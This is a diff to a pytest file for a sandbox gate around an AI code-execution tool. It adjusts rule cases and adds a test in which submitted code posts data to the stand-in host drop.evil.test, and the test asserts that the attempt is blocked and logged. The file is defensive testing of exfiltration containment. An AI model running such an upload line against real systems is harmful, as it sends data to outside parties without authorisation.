@@ -131,8 +131,7 @@ def test_an_async_tool_is_contained_too() -> None:
     [
         ({"sandbox": "refuse"}, "the rule says sandbox = 'refuse'"),
         ({"sandbox": "docker"}, "needs an image of your choice"),
-        ({"no_network": False, "allowed_domains": ("example.com",)}, "no network"),
-        ({"allow_subprocess": True, "sandbox": "docker", "image": "i"}, "start no processes"),
+        ({"no_network": False}, "none are listed"),
     ],
 )
 @pytest.mark.parametrize("guards", [NOBODY_ASKS, frozenset()])
@@ -195,3 +194,18 @@ def test_a_stand_in_stays_one() -> None:
     (run,) = Gate(policy, sink=sink, guardrails=()).open("").wrap([simulated(as_spec(execute_code))])
     assert run(code="print(1)") == "ok"
     assert sink.of(SandboxRan) == []
+
+
+def test_where_code_wanted_to_go_stands_in_the_evidence() -> None:
+    policy = Policy(
+        tools={"execute_code": replace(EXECUTE, no_network=False, allowed_domains=("api.example.com",))},
+        guards=NOBODY_ASKS,
+    )
+    run, sink, reached = opened(policy=policy)
+    code = "import urllib.request\nurllib.request.urlopen('https://drop.evil.test/in', data=b'x')"
+    told = run(code=code)
+    assert "403 Forbidden" in told
+    assert "drop.evil.test is not allowed; allowed: api.example.com" in told
+    (ran,) = sink.of(SandboxRan)
+    assert {"syscall": "connect", "path": "drop.evil.test:443"} in ran.violations
+    assert reached == []
